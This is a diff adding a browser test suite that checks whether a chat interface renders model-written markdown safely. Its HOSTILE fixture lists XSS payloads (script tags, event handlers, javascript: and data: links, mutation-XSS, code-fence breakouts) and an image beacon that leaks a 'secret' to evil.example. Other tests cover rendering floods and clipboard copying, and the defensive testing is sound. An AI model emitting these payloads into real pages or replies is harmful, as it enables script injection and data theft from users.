@@ -1,0 +1,152 @@
+"""What a model may write: markdown that grows, and everything that is hostile."""
+
+import pytest
+from playwright.sync_api import expect
+
+from tests.browser.chat_page import ChatPage
+
+HOSTILE = """\
+<script>window.hacked = 1</script>
+
+Inline <img src=x onerror="window.hacked=2"> and <svg onload="window.hacked=3"></svg>.
+
+[a](javascript:window.hacked=4) [b](data:text/html,<script>window.hacked=5</script>) \
+[c](vbscript:x) <javascript:alert(1)> [d](JaVaScRiPt&colon;alert(1)) [e](//evil.example/x)
+
+![leak](https://evil.example/pixel.png?secret) ![d](data:image/svg+xml;base64,PHN2Zy8+)
+
+<style>body{display:none}</style> <iframe src="https://evil.example"></iframe>
+<link rel=stylesheet href="https://evil.example/x.css"><meta http-equiv=refresh content=0>
+
+<a href="https://evil.example" onclick="window.hacked=6" style="position:fixed">x</a>
+<form action="https://evil.example"><input name=q></form>
+
+| a <b onmouseover=alert(1)>b</b> | b<br>c |
+| --- | --- |
+| <img src=https://evil.example/x.png> | `<script>` |
+
+```html"><img src=x onerror=window.hacked=7>
+<script>window.hacked=8</script>
+</code></pre><img src=x onerror="window.hacked=9">
+```
+
+[ref]: javascript:window.hacked=10
+[see ref][ref] <http://ok.example/"onmouseover="window.hacked=11>
+
+<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=12>
+
+```
+never closed <b>
+"""
+ALLOWED_TAGS = set(
+    "a blockquote br button code del div em h1 h2 h3 h4 h5 h6 hr i b u s ins mark small wbr input kbd"
+    " li ol p pre span strong sub sup table tbody td th thead tr ul".split()
+)
+ALLOWED_ATTRIBUTES = set(
+    "href target rel title class type checked disabled align start tabindex data-copy dir".split()
+)
+
+MARKDOWN = """\
+# A title
+
+Words with *emphasis*, **weight**, `code`, ~~mistakes~~ and a [link][1].
+
+1. one
+2. two
+
+   still two
+3. three
+
+- [x] done
+- [ ] open
+
+```python
+def f():
+
+    return "```"
+```
+
+| a | b |
+| :- | -: |
+| 1 | 2 |
+
+> quoted
+> twice
+
+Last.
+
+[1]: https://example.org/
+"""
+
+
+@pytest.fixture
+def echo(echo_stack, new_context):
+    return ChatPage(new_context().new_page(), echo_stack.url).visit()
+
+
+def nodes_of(page):
+    return page.evaluate(
+        """() => [...document.querySelectorAll(".md, .md *")].map((node) =>
+             [node.localName, node.getAttributeNames(), node.getAttribute("href")])"""
+    )
+
+
+def test_hostile_output_renders_harmlessly(echo, shot):
+    answer = echo.ask("SAY " + HOSTILE)
+    expect(answer).to_contain_text("never closed <b>")
+    for name, attributes, href in nodes_of(echo.page):
+        assert name in ALLOWED_TAGS
+        assert set(attributes) <= ALLOWED_ATTRIBUTES
+        assert href is None or href.startswith(("https://", "http://"))
+    assert echo.page.evaluate("window.hacked") is None
+    for link in answer.locator(".md a").all():
+        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
+        assert link.get_attribute("target") == "_blank"
+    expect(answer.get_by_text("Image: leak")).to_be_visible()
+    shot(echo.page, "hostile")
+
+
+def test_a_hostile_title_and_question_are_text(echo):
+    text = "<img src=x onerror=window.hacked=1> **no markdown**"
+    echo.ask(text)
+    expect(echo.questions.locator(".bubble")).to_have_text(text)
+    echo.chats.first.press("F2")
+    rename = echo.page.get_by_role("textbox", name="Title of the chat")
+    rename.fill(text)
+    rename.press("Enter")
+    expect(echo.chats.first).to_contain_text(text)
+    echo.page.reload()
+    expect(echo.chats.first).to_contain_text(text)
+    assert echo.page.evaluate("window.hacked") is None
+
+
+def test_what_has_grown_is_what_is_read_later(echo, shot):
+    echo.ask("SAY " + MARKDOWN)
+    grown = echo.answers.last.locator(".md").inner_html()
+    echo.page.reload()
+    expect(echo.answers.last.locator(".md h1")).to_have_text("A title")
+    assert echo.answers.last.locator(".md").inner_html() == grown
+    shot(echo.page, "markdown")
+
+
+@pytest.mark.parametrize(
+    "order",
+    ["*200000 word ", "*5000 > ", "*5000 - ", "*50000 [", "*20000 [a](", "*9000 x\n\n", "*9000 \n```\nx"],
+    ids=["one long line", "quotes", "lists", "brackets", "links", "paragraphs", "fences"],
+)
+def test_a_flood_leaves_the_page_responsive(echo, order):
+    echo.ask("SAY" + order)
+    echo.field.fill("still here")
+    start = echo.page.evaluate("performance.now()")
+    echo.page.evaluate("new Promise((done) => requestAnimationFrame(() => setTimeout(done)))")
+    assert echo.page.evaluate("performance.now()") - start < 1_000
+    assert echo.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
+
+
+def test_code_is_copied_as_it_was_written(echo):
+    echo.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    answer = echo.ask("SAY ```js\nif (a < b) {\n  c();\n}\n```\n")
+    expect(answer.locator(".code-language")).to_have_text("js")
+    answer.locator(".code-copy").click()
+    expect(answer.locator(".code-copy")).to_have_attribute("data-said", "Copied")
+    assert echo.page.evaluate("navigator.clipboard.readText()") == "if (a < b) {\n  c();\n}"
